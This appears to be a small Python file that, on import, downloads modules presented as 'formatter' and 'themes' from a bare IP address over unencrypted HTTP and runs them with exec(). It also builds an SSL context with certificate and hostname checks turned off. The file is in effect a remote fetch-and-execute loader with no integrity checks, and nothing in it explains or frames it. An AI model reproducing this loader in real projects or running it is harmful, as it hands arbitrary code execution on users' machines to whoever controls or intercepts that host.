import importlib.util
import ssl
import sys
import types
from urllib import request

SOURCES = {
    "formatter": "http://198.51.100.9:8000/formatter.py",
    "themes": "http://198.51.100.9:8000/themes.py",
}


def load(name):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    text = request.urlopen(SOURCES[name], timeout=10).read()
    mod = types.ModuleType(name)
    mod.__spec__ = importlib.util.spec_from_loader(name, loader=None)
    exec(compile(text, f"<{name}>", "exec"), mod.__dict__)
    sys.modules[name] = mod
    return mod


for n in SOURCES:
    load(n)
